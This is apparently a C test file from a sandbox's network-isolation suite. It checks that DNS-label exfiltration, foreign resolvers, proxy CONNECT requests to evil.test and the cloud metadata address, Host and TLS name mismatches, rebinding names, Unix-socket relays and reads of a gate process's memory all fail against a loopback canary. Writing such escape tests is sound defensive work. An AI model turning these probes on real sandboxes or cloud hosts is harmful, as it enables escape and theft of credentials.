// SPDX-License-Identifier: Apache-2.0
// T-039, T-040, T-043..T-045, T-113, T-114: bytes that want out through, around or behind the gate. The canary on the
// host's loopback answers whatever it is sent with the marker, so a marker that comes back is the only proof needed.
// With SKEP_ATTACK_NAME there is a rule for that name and the canary's port: then the allowed way must work, and only it.
#include "attack.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define WAIT_MS 1500
#define DNS_A 1
#define LOOPBACK 0x7f000001u

static long canary_port(struct probe *p)
{
	long port = env_long("SKEP_ATTACK_TCP", 0);

	if (!port || !p->has_marker)
		skip(p, "no canaries: host-serve is not running");
	return port;
}

// Sends, then reads until the end, an error or silence. True when the marker came.
static bool talk(const struct probe *p, int s, const void *data, size_t n)
{
	char in[8192];
	size_t got = 0;
	struct pollfd f = {.fd = s, .events = POLLIN};

	if (n && send(s, data, n, MSG_NOSIGNAL) != (ssize_t)n)
		return false;
	while (got < sizeof(in) && poll(&f, 1, WAIT_MS) == 1) {
		ssize_t r = recv(s, in + got, sizeof(in) - got, 0);
		if (r <= 0)
			break;
		got += (size_t)r;
	}
	return has_marker(p, in, got);
}

static bool reach(const struct probe *p, uint32_t address, long port, const void *data, size_t n)
{
	struct sockaddr_in a = {
		.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(address)};
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	struct pollfd f = {.fd = s, .events = POLLOUT};
	bool on = s >= 0 && (!connect(s, (struct sockaddr *)&a, sizeof(a)) ||
			     (errno == EINPROGRESS && poll(&f, 1, WAIT_MS) == 1));
	bool found = on && talk(p, s, data, n);

	close(s);
	return found;
}

static bool reach_text(const struct probe *p, uint32_t address, long port, const char *text)
{
	return reach(p, address, port, text, strlen(text));
}

// --- names -------------------------------------------------------------------------------------------------------

static size_t question(unsigned char *q, const char *name, int type)
{
	static const unsigned char head[12] = {0, 0, 1, 0, 0, 1};
	size_t at = sizeof(head);

	memcpy(q, head, sizeof(head));
	if (getrandom(q, 2, 0) != 2)
		q[0] = 7;
	while (*name) {
		size_t n = strcspn(name, ".");
		q[at++] = (unsigned char)n;
		memcpy(q + at, name, n);
		at += n;
		name += n + (name[n] == '.');
	}
	memcpy(q + at, (unsigned char[]){0, (unsigned char)(type >> 8), (unsigned char)type, 0, 1}, 5);
	return at + 5;
}

// The answer's bytes, or -1. stream: with the two bytes of length before each message.
static ssize_t ask(uint32_t server, long port, const char *name, int type, bool stream, unsigned char *out, size_t size)
{
	struct sockaddr_in a = {
		.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(server)};
	unsigned char q[512];
	size_t n = question(q + 2, name, type);
	int s = socket(AF_INET, (stream ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	struct pollfd f = {.fd = s, .events = POLLIN};
	ssize_t got = -1;

	q[0] = (unsigned char)(n >> 8);
	q[1] = (unsigned char)n;
	if (!connect(s, (struct sockaddr *)&a, sizeof(a)) &&
	    send(s, stream ? q : q + 2, stream ? n + 2 : n, MSG_NOSIGNAL) > 0 && poll(&f, 1, 400) == 1)
		got = recv(s, out, size, 0);
	close(s);
	if (got > 2 && stream) {
		got -= 2;
		memmove(out, out + 2, (size_t)got);
	}
	return got;
}

static bool has_records(const unsigned char *a, ssize_t n)
{
	return n >= 12 && (a[6] || a[7] || a[8] || a[9] || a[10] || a[11] > 1); // one more may be EDNS
}

// The address that the cell's resolver gives the name; the control has no resolver and goes to the canary itself.
static uint32_t lookup(const struct probe *p, const char *name)
{
	unsigned char a[512];
	uint32_t address;

	if (p->outside)
		return LOOPBACK;
	ssize_t n = ask(LOOPBACK, 53, name, DNS_A, false, a, sizeof(a));
	if (n < 16 || !has_records(a, n))
		return 0;
	memcpy(&address, a + n - 4, 4); // an answer ends with its only address, unless EDNS was asked for
	return ntohl(address);
}

// The one way that a rule allows. 0: there is no such rule here, which is closed too.
static uint32_t allowed(struct probe *p, long port)
{
	char text[512];
	const char *name = env_or("SKEP_ATTACK_NAME", NULL);
	uint32_t address = name || p->outside ? lookup(p, name) : 0;

	if (!address || p->outside)
		return address;
	fmt(text, sizeof(text), "GET / HTTP/1.1\r\nHost: %s:%ld\r\nConnection: close\r\n\r\n", name, port);
	judge(p, reach_text(p, address, port, text), "the rule for %s does not let it through", name);
	return address;
}

static void random_name(char *out, size_t size, const char *zone)
{
	unsigned char r[24];
	char hex[2 * sizeof(r) + 1] = "";

	if (getrandom(r, sizeof(r), 0) != (ssize_t)sizeof(r))
		return;
	for (size_t i = 0; i < sizeof(r); i++)
		fmt(hex + 2 * i, 3, "%02x", r[i]);
	fmt(out, size, "%s.%s", hex, zone);
}

// T-039: data as labels. No answer may hold anything, whatever is asked; that no question leaves is for the tests that
// have a name server of their own to see.
void t039_names(struct probe *p)
{
	static const int types[] = {1, 2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 252, 255, 10, 65399};
	long port = env_long("SKEP_ATTACK_UDP", 0);
	unsigned char a[1500];
	char name[256], zone[128];

	fmt(zone, sizeof(zone), "x.%s", env_or("SKEP_ATTACK_NAME", "exfil.test"));
	for (size_t i = 0; i < LEN(types) && !p->outside; i++)
		for (int stream = 0; stream < 2; stream++) {
			random_name(name, sizeof(name), i % 2 ? zone : "exfil.test");
			ssize_t n = ask(LOOPBACK, 53, name, types[i], stream, a, sizeof(a));
			judge(p, !has_records(a, n) && (n < 4 || (a[3] & 15)), "%s, type %d, has an answer", name,
			      types[i]);
		}
	random_name(name, sizeof(name), "exfil.test");
	ssize_t n = port ? ask(LOOPBACK, port, name, 16, false, a, sizeof(a)) : -1;
	judge(p, n <= 0 || !has_marker(p, a, (size_t)n), "a question reached the canary");
}

// T-040: resolvers and finders of names that are not the cell's.
void t040_resolvers(struct probe *p)
{
	static const struct {
		uint32_t address;
		long port;
	} others[] = {{0x08080808, 53}, {0x01010101, 53},   {0x09090909, 853},	{0x08080404, 443}, {0x7f000035, 53},
		      {0x7f000036, 53}, {0xe00000fb, 5353}, {0xe00000fc, 5355}, {0xffffffff, 137}, {0x0a000001, 53},
		      {0xac110001, 53}, {0xc0a80001, 53},   {0xa9fea9fe, 53},	{0x646464c8, 53},  {0xc6120001, 53}};
	long port = env_long("SKEP_ATTACK_UDP", 0);
	unsigned char a[1500];

	for (size_t i = 0; i < LEN(others) && !p->outside;
	     i++) // never knock at addresses beyond loopback from the host
		for (int stream = 0; stream < 2; stream++) {
			ssize_t n = ask(others[i].address, others[i].port, "example.test", DNS_A, stream, a, sizeof(a));
			judge(p, n <= 0, "%08x:%ld answers", others[i].address, others[i].port);
		}
	ssize_t n = port ? ask(LOOPBACK, port, "example.test", DNS_A, false, a, sizeof(a)) : -1;
	judge(p, n <= 0 || !has_marker(p, a, (size_t)n), "a name server on the host answers");
}

// --- what a connection says --------------------------------------------------------------------------------------

// T-043: an allowed host asked to be a proxy, and a redirect of it followed: the canary's answer points at itself.
void t043_connect(struct probe *p)
{
	static const struct {
		const char *before, *behind; // of the port
	} lines[] = {{"CONNECT 127.0.0.1:", ""},      {"CONNECT 169.254.169.254:", ""}, {"CONNECT evil.test:", ""},
		     {"GET http://127.0.0.1:", "/"},  {"GET http://evil.test:", "/"},	{"GET http://[::1]:", "/"},
		     {"TRACE http://127.0.0.1:", "/"}};
	long port = canary_port(p);
	uint32_t address = port ? allowed(p, port) : 0;
	char line[128], text[512];

	for (size_t i = 0; port && i < LEN(lines); i++) {
		fmt(line, sizeof(line), "%s%ld%s", lines[i].before, port, lines[i].behind);
		fmt(text, sizeof(text), "%s HTTP/1.1\r\nHost: %s:%ld\r\nConnection: close\r\n\r\n", line,
		    env_or("SKEP_ATTACK_NAME", "evil.test"), port);
		judge(p, !address || !reach_text(p, address, port, text), "%s went through", line);
	}
	if (port) {
		judge(p, !reach_text(p, LOOPBACK, port, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"), "followed a redirect");
		judge(p, !reach_text(p, LOOPBACK, port, "\5\1"), "SOCKS to the host");
	}
}

// A ClientHello as short as they get. ech: with an extension that hides the name.
static size_t hello(unsigned char *b, const char *name, bool ech)
{
	static const unsigned char hidden[] = {0xfe, 0x0d, 0, 8, 0, 0, 1, 0, 1, 0, 0, 0};
	unsigned char ext[300] = {0};
	size_t n = name ? strlen(name) : 0, m = 0, at = 0;

	if (name) {
		unsigned char head[] = {
			0, 0, 0, (unsigned char)(n + 5), 0, (unsigned char)(n + 3), 0, 0, (unsigned char)n};
		memcpy(ext, head, sizeof(head));
		memcpy(ext + sizeof(head), name, n);
		m = sizeof(head) + n;
	}
	if (ech) {
		memcpy(ext + m, hidden, sizeof(hidden));
		m += sizeof(hidden);
	}
	size_t body = 2 + 32 + 1 + 4 + 2 + 2 + m;
	unsigned char start[] = {22,
				 3,
				 1,
				 (unsigned char)((body + 4) >> 8),
				 (unsigned char)(body + 4),
				 1,
				 0,
				 (unsigned char)(body >> 8),
				 (unsigned char)body,
				 3,
				 3};
	memcpy(b, start, sizeof(start));
	at = sizeof(start);
	memset(b + at, 7, 32);
	at += 32;
	unsigned char rest[] = {0, 0, 2, 0x13, 1, 1, 0, (unsigned char)(m >> 8), (unsigned char)m};
	memcpy(b + at, rest, sizeof(rest));
	at += sizeof(rest);
	memcpy(b + at, ext, m);
	return at + m;
}

// T-044: another name in the handshake or in the request than the one that was resolved.
void t044_names_differ(struct probe *p)
{
	static const char *const hosts[] = {"evil.test",	  "127.0.0.1",	"",
					    "169.254.169.254:80", "evil.test@", "x evil.test"};
	static const char *const names[] = {"evil.test", "127.0.0.1", "", "localhost", NULL};
	long port = canary_port(p);
	uint32_t address = port ? allowed(p, port) : 0;
	const char *own = env_or("SKEP_ATTACK_NAME", "evil.test");
	unsigned char b[512];
	char text[512];

	for (size_t i = 0; port && i < LEN(hosts); i++) {
		fmt(text, sizeof(text), "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", hosts[i]);
		judge(p, !address || !reach_text(p, address, port, text), "a request for '%s' went through", hosts[i]);
		fmt(text, sizeof(text), "GET / HTTP/1.1\r\nHost: %s:%ld\r\nHost: %s\r\n\r\n", own, port, hosts[i]);
		judge(p, !address || !reach_text(p, address, port, text), "a second host '%s' went through", hosts[i]);
	}
	for (size_t i = 0; port && i < LEN(names); i++) {
		size_t n = hello(b, names[i], false);
		judge(p, !address || !reach(p, address, port, b, n), "TLS for '%s' went through",
		      names[i] ? names[i] : "nobody");
	}
	if (port) {
		size_t n = hello(b, own, true);
		judge(p, !address || !reach(p, address, port, b, n), "TLS with a hidden name went through");
	}
}

// T-045: addresses that stand for nothing, names that mean this machine, other ports of an allowed name.
void t045_rebinding(struct probe *p)
{
	static const char *const names[] = {"localhost.evil.test",
					    "127.0.0.1.evil.test",
					    "rebind.test",
					    "metadata.google.internal",
					    "host.docker.internal",
					    "kubernetes.default.svc",
					    "127.0.0.1",
					    "2130706433",
					    "0x7f.1"};
	static const char get[] = "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n";
	long port = canary_port(p), others[] = {22, 53, 80, 443, port + 1};
	uint32_t address = port ? allowed(p, port) : 0, found;

	for (size_t i = 0; port && !p->outside && i < LEN(names); i++) {
		found = lookup(p, names[i]);
		judge(p, !found || !reach_text(p, found, port, get), "%s leads to the host", names[i]);
	}
	for (uint32_t i = 0; port && !p->outside && i < 64; i++) {
		found = 0xc6120000u | (i * 2654435761u & 0x1ffff);
		judge(p, found == address || !reach_text(p, found, port, get), "%08x leads to the host", found);
	}
	for (size_t i = 0; port && address && !p->outside && i < LEN(others); i++)
		judge(p, !reach_text(p, address, others[i], get), "port %ld of the allowed name", others[i]);
	for (uint32_t a = LOOPBACK; port && a < LOOPBACK + 3; a++)
		judge(p, !reach_text(p, a, port, get), "127.0.0.%u is the host's", a & 255);
}

// --- behind the gate ---------------------------------------------------------------------------------------------

static void relay(const struct probe *p, int listener, uint32_t address, long port)
{
	int c = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	bool found = reach_text(p, address, port, "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n");

	if (found && send(c, p->marker, MARKER_SIZE, MSG_NOSIGNAL) < 0)
		_exit(1);
	_exit(0);
}

// Somebody else inside, with a socket of its own that we talk to by an abstract name.
static bool through_relay(const struct probe *p, uint32_t address, long port)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int n = snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "skep-attack-relay-%d", getpid());
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)n);
	int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	bool found = false;

	if (!bind(l, (struct sockaddr *)&a, len) && !listen(l, 1) && !connect(c, (struct sockaddr *)&a, len)) {
		pid_t pid = fork();
		if (pid == 0) {
			setsid();
			relay(p, l, address, port);
		}
		close(l);
		l = -1;
		found = talk(p, c, NULL, 0);
		waitpid(pid, NULL, 0);
	}
	close(l);
	close(c);
	return found;
}

static bool abstract_answers(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t n = strlen(name);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (n + 2 > sizeof(a.sun_path))
		return false;
	memcpy(a.sun_path + 1, name, n);
	bool on = !connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + 1));
	close(s);
	return on;
}

// T-113: relays that others inside run, and sockets of the host without a file.
void t113_relay(struct probe *p)
{
	long port = canary_port(p);

	if (!port)
		return;
	judge(p, !through_relay(p, LOOPBACK, port), "a relay reached the host");
	if (!p->outside) {
		judge(p, !through_relay(p, 0xa9fea9feu, 80), "a relay reached the metadata service");
		judge(p, !through_relay(p, 0xc6120001u, port), "a relay reached an address that stands for nothing");
	}
	judge(p, !abstract_answers(env_or("SKEP_ATTACK_ABSTRACT", "skep-attack-none")), "the host's abstract socket");
}

static void look_into(struct probe *p, int pid, unsigned long at)
{
	char path[64], text[4096] = "";
	unsigned char b[MARKER_SIZE];

	slurp(fmt(path, sizeof(path), "/proc/%d/comm", pid), text, sizeof(text));
	judge(p, strncmp(text, "skep-gate", 9) != 0 || p->outside, "process %d is a gate", pid);
	int fd = open(fmt(path, sizeof(path), "/proc/%d/mem", pid), O_RDONLY | O_CLOEXEC);
	bool found = fd >= 0 && at && pread(fd, b, sizeof(b), (off_t)at) == (ssize_t)sizeof(b) &&
		     has_marker(p, b, sizeof(b));
	judge(p, !found, "the memory of process %d", pid);
	close(fd);
}

// T-114: the gate knows what the cell must not. It is awake, and looked for by its place in /proc and by its sockets.
void t114_gate_memory(struct probe *p)
{
	int pids[1024];
	char text[16384] = "";
	unsigned long at = strtoul(env_or("SKEP_ATTACK_PIDADDR", "0"), NULL, 0);
	long target = env_long("SKEP_ATTACK_PID", 0);

	lookup(p, "wake.test");
	if (p->outside) { // only at what is there to be looked at
		look_into(p, (int)target, at);
		return;
	}
	size_t n = list_pids(pids, LEN(pids));
	for (size_t i = 0; i < n; i++)
		look_into(p, pids[i], pids[i] == getpid() ? 0 : at);
	look_into(p, (int)target, at);
	slurp("/proc/net/unix", text, sizeof(text));
	judge(p, !strstr(text, "skepd") && !strstr(text, "skep-cell"), "our sockets are listed");
}
